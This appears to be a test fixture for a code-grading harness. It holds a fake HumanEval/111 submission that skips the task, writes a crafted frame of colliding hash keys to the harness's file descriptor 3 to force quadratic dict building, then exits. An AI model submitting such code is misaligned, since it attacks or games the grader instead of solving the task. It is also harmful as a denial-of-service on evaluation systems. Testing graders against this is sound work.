# task: HumanEval/111
# expect: not passed
# why: Forty thousand keys of one hash: quadratic time where the dict is built.
    import os, struct
    step = (1 << 61) - 1
    frame = b'V{"d":[' + b",".join(b"[%d,0]" % (step * n) for n in range(1, 35_000)) + b"]}"
    data = struct.pack("I", len(frame)) + frame
    while data:
        data = data[os.write(3, data):]
    os._exit(0)
